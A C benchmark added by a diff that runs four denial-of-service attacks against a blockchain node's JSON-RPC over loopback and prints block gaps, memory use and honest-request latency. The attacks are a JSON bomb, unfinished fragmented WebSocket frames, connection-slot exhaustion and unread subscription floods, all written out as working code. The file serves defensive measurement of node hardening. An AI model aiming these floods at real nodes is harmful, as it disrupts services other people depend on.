@@ -1,0 +1,331 @@
+/* rpc_attack.c - the attacks of issue 17 on a node's JSON-RPC, as figures:
+ * worst gap between blocks (newHeads arrivals), peak and retained resident
+ * memory of the node, and the time to serve an honest request (a fresh
+ * WebSocket + system_health) while the attack runs. Not a test: it prints.
+ *
+ *   rpc_attack                        starts a dev node in this process
+ *   rpc_attack --port P --pid PID     attacks a running node (any version:
+ *                                     bench/rpc_attack.sh runs old and new)
+ *   ... [SCENARIO ...]                bomb, unfinished, slots, subscribers
+ *
+ * Scaled to a 2-core machine shared with others: a 14.7 MB "[0,0,...]"
+ * looped by 2 clients, 50 x 2 MiB unfinished fragmented frames finished at
+ * once, 100 idle WebSockets from another address, 20 x 1024 subscriptions
+ * never read. Loopback only. */
+#include "node/chainspec.h"
+#include "service/node.h"
+#include "tests/support/ws_raw.h"
+
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#define SECONDS 8
+
+static int port;
+static long pid;
+
+static long long now_ms(void)
+{
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+}
+
+static long rss_kb(void)
+{
+    char path[64];
+    long pages = 0, resident = 0;
+    snprintf(path, sizeof path, "/proc/%ld/statm", pid);
+    FILE *f = fopen(path, "r");
+    if (f && fscanf(f, "%ld %ld", &pages, &resident) != 2)
+        resident = 0;
+    if (f)
+        fclose(f);
+    return resident * (sysconf(_SC_PAGESIZE) / 1024);
+}
+
+/* ---- what is measured while an attack runs ---- */
+
+struct watch {
+    atomic_bool stop;
+    long long worst_gap_ms;
+    atomic_int heads;
+    long peak_kb;
+    long long honest_worst_ms;
+    int honest_ok, honest_failed;
+};
+
+static void *watch_heads(void *arg)
+{
+    struct watch *w = arg;
+    /* long timeouts: a stalled node is what is measured */
+    int fd = wsr_open(port, NULL, NULL, 60000, 0);
+    if (fd < 0)
+        return NULL;
+    char *r =
+        wsr_call(fd, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"chain_subscribeNewHeads\"}");
+    free(r);
+    long long last = 0;
+    while (!atomic_load(&w->stop)) {
+        char *n = wsr_recv_text(fd);
+        if (!n)
+            break;
+        free(n);
+        long long t = now_ms();
+        if (last && t - last > w->worst_gap_ms)
+            w->worst_gap_ms = t - last;
+        last = t;
+        atomic_fetch_add(&w->heads, 1);
+    }
+    close(fd);
+    return NULL;
+}
+
+static void *watch_honest(void *arg)
+{
+    struct watch *w = arg;
+    while (!atomic_load(&w->stop)) {
+        long long t0 = now_ms();
+        int fd = wsr_open(port, NULL, NULL, 5000, 0);
+        char *r = fd >= 0 ? wsr_call(fd, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":"
+                                         "\"system_health\"}")
+                          : NULL;
+        long long took = now_ms() - t0;
+        if (r && strstr(r, "\"result\"")) {
+            w->honest_ok++;
+            if (took > w->honest_worst_ms)
+                w->honest_worst_ms = took;
+        } else {
+            w->honest_failed++;
+        }
+        free(r);
+        if (fd >= 0)
+            close(fd);
+        usleep(200 * 1000);
+    }
+    return NULL;
+}
+
+static void *watch_rss(void *arg)
+{
+    struct watch *w = arg;
+    while (!atomic_load(&w->stop)) {
+        long rss = rss_kb();
+        if (rss > w->peak_kb)
+            w->peak_kb = rss;
+        usleep(20 * 1000);
+    }
+    return NULL;
+}
+
+typedef void (*attack_fn)(atomic_bool *stop);
+
+static void run(const char *name, attack_fn attack)
+{
+    struct watch w = {0};
+    atomic_init(&w.stop, false);
+    atomic_init(&w.heads, 0);
+    long before = rss_kb();
+    pthread_t heads, honest, rss;
+    pthread_create(&rss, NULL, watch_rss, &w);
+    pthread_create(&heads, NULL, watch_heads, &w);
+    for (int i = 0; i < 50 && atomic_load(&w.heads) < 1; i++)
+        usleep(100 * 1000); /* gaps are measured from the first head on */
+    pthread_create(&honest, NULL, watch_honest, &w);
+    attack(&w.stop); /* returns after SECONDS */
+    atomic_store(&w.stop, true);
+    pthread_join(honest, NULL);
+    pthread_join(heads, NULL);
+    pthread_join(rss, NULL);
+    sleep(3); /* what the node keeps after the attack */
+    long after = rss_kb();
+    printf("%-12s worst block gap %5lld ms (%d heads) | RSS before %4ld MB, peak %5ld MB, "
+           "retained %4ld MB | honest request: worst %5lld ms, %d served, %d failed\n",
+           name, w.worst_gap_ms, atomic_load(&w.heads), before / 1024, w.peak_kb / 1024,
+           after / 1024,
+           w.honest_worst_ms, w.honest_ok, w.honest_failed);
+    fflush(stdout);
+}
+
+static void sleep_attack(atomic_bool *stop)
+{
+    (void)stop;
+    sleep(SECONDS);
+}
+
+/* ---- 1. JSON bombs: two clients looping a 14.7 MB "[0,0,...]" ---- */
+
+static char *bomb;
+static size_t bomb_len;
+
+static void *bomber(void *arg)
+{
+    atomic_bool *stop = arg;
+    int fd = wsr_open(port, NULL, NULL, 20000, 0);
+    while (fd >= 0 && !atomic_load(stop)) {
+        if (!wsr_send_frame(fd, 1, true, bomb, bomb_len))
+            break;
+        char *r = wsr_recv_text(fd);
+        if (!r)
+            break;
+        free(r);
+    }
+    if (fd >= 0)
+        close(fd);
+    return NULL;
+}
+
+static void attack_bomb(atomic_bool *stop)
+{
+    bomb_len = 14700000;
+    bomb = malloc(bomb_len);
+    bomb[0] = '[';
+    for (size_t i = 1; i + 1 < bomb_len; i += 2) {
+        bomb[i] = '0';
+        bomb[i + 1] = ',';
+    }
+    bomb[bomb_len - 2] = '0';
+    bomb[bomb_len - 1] = ']';
+    atomic_bool mine;
+    atomic_init(&mine, false);
+    pthread_t th[2];
+    for (int i = 0; i < 2; i++)
+        pthread_create(&th[i], NULL, bomber, &mine);
+    sleep(SECONDS);
+    atomic_store(&mine, true);
+    for (int i = 0; i < 2; i++)
+        pthread_join(th[i], NULL);
+    free(bomb);
+    (void)stop;
+}
+
+/* ---- 2. unfinished fragmented frames, then finished all at once ---- */
+
+static void attack_unfinished(atomic_bool *stop)
+{
+    enum { CONNS = 50 };
+    size_t part = 2 * 1024 * 1024;
+    char *buf = malloc(part);
+    for (size_t i = 0; i < part; i += 2) {
+        buf[i] = '0';
+        buf[i + 1] = ',';
+    }
+    buf[0] = '[';
+    int fds[CONNS];
+    for (int i = 0; i < CONNS; i++) {
+        fds[i] = wsr_open(port, NULL, NULL, 5000, 0);
+        if (fds[i] >= 0 && !wsr_send_frame(fds[i], 1, false, buf, part)) {
+            close(fds[i]);
+            fds[i] = -1;
+        }
+    }
+    sleep(SECONDS / 2);
+    for (int i = 0; i < CONNS; i++) /* "0]" finishes each */
+        if (fds[i] >= 0)
+            (void)wsr_send_frame(fds[i], 0, true, "0]", 2);
+    sleep(SECONDS / 2);
+    for (int i = 0; i < CONNS; i++)
+        if (fds[i] >= 0)
+            close(fds[i]);
+    free(buf);
+    (void)stop;
+}
+
+/* ---- 5. slots: 100 idle WebSockets from 127.0.0.2 ---- */
+
+static void attack_slots(atomic_bool *stop)
+{
+    enum { CONNS = 100 };
+    int fds[CONNS];
+    for (int i = 0; i < CONNS; i++)
+        fds[i] = wsr_open_from("127.0.0.2", port, NULL, NULL, 3000, 0);
+    sleep(SECONDS);
+    for (int i = 0; i < CONNS; i++)
+        if (fds[i] >= 0)
+            close(fds[i]);
+    (void)stop;
+}
+
+/* ---- 6. slow subscribers: 20 x 1024 newHeads, never read ---- */
+
+static void attack_subscribers(atomic_bool *stop)
+{
+    enum { CONNS = 20, SUBS = 1024 };
+    int fds[CONNS];
+    for (int c = 0; c < CONNS; c++) {
+        char src[32];
+        snprintf(src, sizeof src, "127.0.0.%d", 10 + c / 2);
+        fds[c] = wsr_open_from(src, port, NULL, NULL, 5000, 4096);
+        for (int part = 0; fds[c] >= 0 && part < 2; part++)
+            (void)wsr_send_batch(fds[c], "chain_subscribeNewHeads", SUBS / 2);
+    }
+    sleep(SECONDS);
+    for (int c = 0; c < CONNS; c++)
+        if (fds[c] >= 0)
+            close(fds[c]);
+    (void)stop;
+}
+
+static const struct {
+    const char *name;
+    attack_fn fn;
+} scenarios[] = {
+    {"idle", sleep_attack},
+    {"bomb", attack_bomb},
+    {"unfinished", attack_unfinished},
+    {"slots", attack_slots},
+    {"subscribers", attack_subscribers},
+};
+
+int main(int argc, char **argv)
+{
+    struct nm_node *node = NULL;
+    char dir[64] = "";
+    int first = 1;
+    if (argc > 4 && !strcmp(argv[1], "--port") && !strcmp(argv[3], "--pid")) {
+        port = atoi(argv[2]);
+        pid = atol(argv[4]);
+        first = 5;
+    } else {
+        struct nm_chain_spec spec;
+        struct nm_keypair alice;
+        char db[128], msg[256];
+        snprintf(dir, sizeof dir, "/tmp/nm-bench-attack-XXXXXX");
+        if (!mkdtemp(dir) || nm_chainspec_dev(&spec) || nm_keypair_dev("alice", &alice))
+            return 1;
+        snprintf(db, sizeof db, "%s/chain.db", dir);
+        struct nm_node_config cfg = {
+            .spec = &spec, .db_path = db, .author = &alice, .produce = true};
+        if (nm_node_start(&cfg, &node, msg, sizeof msg)) {
+            fprintf(stderr, "node: %s\n", msg);
+            return 1;
+        }
+        nm_chainspec_fini(&spec);
+        port = nm_node_rpc_port(node);
+        pid = (long)getpid();
+        sleep(2);
+    }
+    printf("rpc_attack: node on port %d (pid %ld), %d s per attack, dev chain (1 s blocks)\n",
+           port, pid, SECONDS);
+    for (size_t i = 0; i < sizeof scenarios / sizeof scenarios[0]; i++) {
+        bool wanted = first >= argc;
+        for (int a = first; a < argc; a++)
+            wanted |= !strcmp(argv[a], scenarios[i].name);
+        if (wanted)
+            run(scenarios[i].name, scenarios[i].fn);
+    }
+    if (node) {
+        nm_node_stop(node);
+        char cmd[128];
+        snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
+        if (system(cmd) != 0)
+            return 1;
+    }
+    return 0;
+}
